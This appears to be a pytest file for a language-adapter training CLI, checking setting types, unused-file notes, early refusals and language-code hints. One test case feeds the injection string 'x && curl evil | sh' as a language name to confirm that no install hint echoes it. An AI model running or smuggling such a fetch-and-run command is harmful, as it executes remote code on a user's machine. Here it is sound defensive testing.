"""Settings are what they say (issue #18, items 8 and 10): ``--set`` values read as their field types,
pair files a recipe would ignore and missing data refused, language hints, all before any model loads."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cli_support import run_cli
from training_support import install_toy_registry, save_tiny_model, write_corpus

from lowres_adapters.training.settings import SettingsError, build_run_settings, parse_assignment


@pytest.fixture
def files(tmp_path: Path) -> dict[str, str]:
    install_toy_registry()
    model_dir = save_tiny_model(tmp_path / "model")
    train, held_out = write_corpus(tmp_path)
    pairs = tmp_path / "pairs.tsv"
    pairs.write_text("In the beginning\tPachiyambi\nGod created\tMulungu adalenga\n", encoding="utf-8")
    return {"model": str(model_dir), "train": str(train), "held_out": str(held_out), "pairs": str(pairs),
            "tmp": str(tmp_path)}


@pytest.fixture
def no_model_loads(monkeypatch) -> list[str]:
    """Record (and stop) any base-model load: the errors below must come before one."""
    import lowres_adapters.training.adapt

    loaded: list[str] = []

    def refuse(*args, **kwargs):
        loaded.append(str(args[:1]))
        raise RuntimeError("a model was loaded")

    monkeypatch.setattr(lowres_adapters.training.adapt, "load_base_model", refuse)
    return loaded


def adapt_args(files: dict[str, str], *extra: str) -> list[str]:
    return ["adapt", "tum", "--model", files["model"], "--adapter", "toy", "--text", files["train"], "--eval-text",
            files["held_out"], "--max-steps", "1", "--quiet", "--output", str(Path(files["tmp"]) / "run"), *extra]


@pytest.mark.parametrize("assignment, expected", [
    ("loop.bf16=maybe", "loop.bf16 = 'maybe': expected true or false"),
    ("loop.lr=abc", "loop.lr = 'abc': expected a number"),
    ("loop.seed=abc", "loop.seed = 'abc': expected an integer"),
    ("loop.max_steps=1.5", "loop.max_steps = 1.5: expected an integer or none"),
    ("loop.packing=2", "loop.packing = 2: expected true or false"),
    ("data.eval_examples=many", "data.eval_examples = 'many': expected an integer or none"),
    ("extend_vocab=lots", "extend_vocab = 'lots': expected an integer"),
    ("resume=perhaps", "resume = 'perhaps': expected true or false"),
    ("adapter_config.rank=wide", "adapter_config.rank = 'wide': expected an integer"),
    ("recipe_options.mask_probability=half", "recipe_options.mask_probability = 'half': expected a number"),
])
def test_set_values_of_the_wrong_type_fail_in_one_line_before_loading(files, capsys, no_model_loads, assignment: str,
                                                                      expected: str) -> None:
    code, err = run_cli(adapt_args(files, "--set", assignment), capsys)
    assert code == 1 and err.count("\n") == 1 and expected in err, err
    assert no_model_loads == []


@pytest.mark.parametrize("text, value", [("False", False), ("false", False), ("no", False), ("TRUE", True),
                                         ("on", True), ("0", False)])
def test_set_booleans_are_read_as_booleans(text: str, value: bool) -> None:
    settings = build_run_settings({"language": "nya", **parse_assignment(f"loop.packing={text}")})
    assert settings.loop["packing"] is value


def test_set_packing_false_really_turns_packing_off(files, capsys) -> None:
    code, err = run_cli(adapt_args(files, "--set", "loop.packing=False"), capsys)
    assert code == 0, err
    loop = json.loads((Path(files["tmp"]) / "run" / "run_config.json").read_text())["loop"]
    assert loop["packing"] is False


def test_optional_and_tuple_fields_parse() -> None:
    settings = build_run_settings({"language": "nya", **parse_assignment("loop.max_grad_norm=none"),
                                   "train_also": ["model.norm.*"]})
    assert settings.loop["max_grad_norm"] is None and settings.train_also == ("model.norm.*",)
    with pytest.raises(SettingsError, match="loop.max_grad_norm = 'x': expected a number or none"):
        build_run_settings({"language": "nya", **parse_assignment("loop.max_grad_norm=x")})


def test_pairs_given_to_a_recipe_without_pairs_are_named_as_unused(files, capsys, no_model_loads) -> None:
    code, err = run_cli(adapt_args(files, "--pairs", files["pairs"]), capsys)
    assert "note: --pairs is not used: recipe 'language' does not train on pairs" in err, err
    code, err = run_cli(adapt_args(files, "--eval-pairs", files["pairs"]), capsys)
    assert "note: --eval-pairs is not used: recipe 'language' scores the held-out text" in err, err
    assert len(no_model_loads) == 2  # said before the model loads (the stub stops each run there)


def test_eval_pairs_standing_in_for_held_out_text_are_not_flagged(files, capsys, no_model_loads) -> None:
    args = [arg for arg in adapt_args(files, "--eval-pairs", files["pairs"]) if arg != files["held_out"]]
    args.remove("--eval-text")
    code, err = run_cli(args, capsys)
    assert "not used" not in err and no_model_loads


def test_sft_without_pairs_fails_before_loading_and_suggests_no_fetch_without_a_pack(files, capsys,
                                                                                      no_model_loads) -> None:
    code, err = run_cli(adapt_args(files, "--recipe", "sft"), capsys)
    assert code == 1 and err.count("\n") == 1, err
    assert "recipe 'sft' needs parallel pairs for tum: pass --pairs FILE" in err and "data fetch" not in err
    assert no_model_loads == []


def test_a_two_letter_language_hints_the_three_letter_code(capsys) -> None:
    code, err = run_cli(["adapt", "ny"], capsys)
    assert code == 1 and err.count("\n") == 1 and "use 'nya' for Chichewa" in err, err


@pytest.mark.parametrize("name, hinted", [("english", False), ("x && curl evil | sh", False), ("xyz", False),
                                          ("swh", True)])
def test_pip_hints_only_for_iso_639_3_codes(capsys, name: str, hinted: bool) -> None:
    code, err = run_cli(["data", "stats", name], capsys)
    assert code == 1 and err.count("\n") == 1, err
    assert ("pip install lowres-lang-" in err) is hinted
